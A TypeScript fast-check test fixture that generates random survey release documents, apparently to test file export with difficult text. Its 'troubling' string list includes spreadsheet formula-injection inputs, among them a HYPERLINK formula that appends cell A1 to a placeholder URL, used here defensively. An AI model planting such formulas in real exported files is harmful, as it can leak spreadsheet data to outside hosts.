import fc from "fast-check";
import type {
  PublishedQuestion,
  PublishedRelease,
  PublishedVariable,
} from "#app/domain/survey/release/published.ts";
import type { ReleaseDocument } from "#app/files/release/release-document.ts";
import { sampleReleaseDocument } from "./release-document.ts";

/** Texts that files have trouble with: formulas, emoji, writing from the right, widths, marks. */
export const troubling = [
  '=HYPERLINK("https://example.jp/?"&A1,"ここ")',
  "+81-595-22-9600",
  "-1+1",
  "\u22125",
  "@SUM(A1:A9)",
  "\t=1",
  "\r=1",
  "'=1",
  "''",
  "＝１＋１",
  "１２３４",
  "0123",
  "1e308",
  "x",
  "👩‍👩‍👧‍👦と𠮷野家",
  "\u200fעברית\u202eabc\u202c",
  "한국어",
  "_x0041_と_x000D_",
  "a\u0001b\u001f",
  '"引用", カンマ\r\n改行\n',
  " 前後の空白　",
  "〜−～－",
  "<b>&amp;</b>",
];

const text = fc.oneof(
  fc.constantFrom(...troubling),
  // U+0000 and halves of pairs cannot be stored; they never come from a release.
  fc.string({ unit: "grapheme" }),
  fc.string({ unit: fc.constantFrom(..."=+-@'\"\t\r\n, ＝＋あ1_x0") }),
);
const filled = text.filter((value) => value.trim() !== "");
const count = fc.option(fc.nat({ max: 1_000_000 }), { freq: 3 });
const percent = fc.option(fc.nat({ max: 1000 }).map((tenths) => tenths / 10));
const mean = fc.option(
  fc.oneof(
    fc.integer({ min: -10_000, max: 10_000 }).map((hundredths) => hundredths / 100),
    fc.constantFrom(1e308, 1e21, -1e-7),
  ),
);

function variable(id: string, release: PublishedRelease): fc.Arbitrary<PublishedVariable> {
  return fc
    .tuple(
      fc.uniqueArray(filled, { minLength: 1, maxLength: 4 }),
      fc.constantFrom<PublishedVariable["kind"]>("choice", "class", "place", "written"),
      fc.constantFrom<PublishedVariable["counts"]>("firms", "entries"),
      fc.option(text),
      fc.boolean(),
    )
    .chain(([keys, kind, counts, part, isMerged]) => {
      const base = { n: count, noAnswer: count, notApplicable: count };
      return fc.record({
        id: fc.constant(id),
        part: fc.constant(part === null ? null : { value: part, text: part }),
        kind: fc.constant(kind),
        answers: fc.constant<PublishedVariable["answers"]>("one"),
        counts: fc.constant(counts),
        ...base,
        rows: fc.tuple(
          ...keys.map((key) =>
            fc.record({
              key: fc.constant(key),
              text: text,
              count,
              percent,
              weighted: fc.option(
                fc.record({
                  percent: fc.constant(12.3),
                  lower: fc.constant(0),
                  upper: fc.constant(100),
                }),
              ),
            }),
          ),
        ),
        ends: fc.constant(null),
        summary: fc.option(
          fc.record({ mean, median: mean, lowerQuartile: mean, upperQuartile: mean }),
        ),
        byStratum: fc.tuple(
          ...release.axes.map(({ axis, strata: all }) => {
            const strata = isMerged ? all.slice(0, 1) : all;
            return fc.record({
              axis: fc.constant(axis),
              strata: fc.tuple(
                ...strata.map(({ stratum }) =>
                  fc.record({ stratum: fc.constant(stratum), ...base, mean }),
                ),
              ),
              cells: fc.tuple(...keys.map(() => fc.tuple(...strata.map(() => count)))),
            });
          }),
        ),
      });
    });
}

function question(number: number, release: PublishedRelease): fc.Arbitrary<PublishedQuestion> {
  const name = `q${number}`;
  return fc.nat({ max: 2 }).chain((parts) =>
    fc.record({
      name: fc.constant(name),
      number: fc.constant(number),
      title: text,
      type: fc.constant<PublishedQuestion["type"]>("matrix"),
      articles: fc.constant([]),
      variables: fc.tuple(
        ...Array.from({ length: parts }, (_, index) => variable(`${name}/${index}`, release)),
      ),
      texts: fc.option(
        fc.record({
          written: count,
          published: fc.array(fc.record({ text: filled, firms: count }), { maxLength: 3 }),
          keywords: fc.array(fc.record({ word: filled, firms: fc.nat({ max: 99 }) }), {
            maxLength: 2,
          }),
        }),
      ),
    }),
  );
}

/** Releases of any texts and figures, also such as no engine would make. */
export function anyReleaseDocument(): fc.Arbitrary<ReleaseDocument> {
  const sample = sampleReleaseDocument();
  return fc
    .uniqueArray(filled, { minLength: 1, maxLength: 3 })
    .map((strata) => ({
      ...sample.release,
      axes: [
        {
          axis: "sector",
          label: "業種",
          strata: strata.map((stratum) => ({ stratum, answers: 5 })),
        },
      ],
    }))
    .chain((release) =>
      fc.tuple(question(1, release), question(2, release)).chain((questions) => {
        const variables = questions.flatMap((one) => one.variables);
        const [rows, columns] = [variables[0], variables.at(-1)];
        const crossed =
          rows && columns && rows !== columns
            ? fc
                .record({
                  rows: fc.constant(rows.id),
                  columns: fc.constant(columns.id),
                  n: fc.tuple(...columns.rows.map(() => count)),
                  cells: fc.tuple(
                    ...rows.rows.map(() => fc.tuple(...columns.rows.map(() => count))),
                  ),
                })
                .map((crossing) => ({ [`${rows.id}|${columns.id}`]: crossing }))
            : fc.constant({});
        return crossed.map((crossings) => ({
          ...sample,
          release: { ...release, questions },
          crossings,
        }));
      }),
    );
}
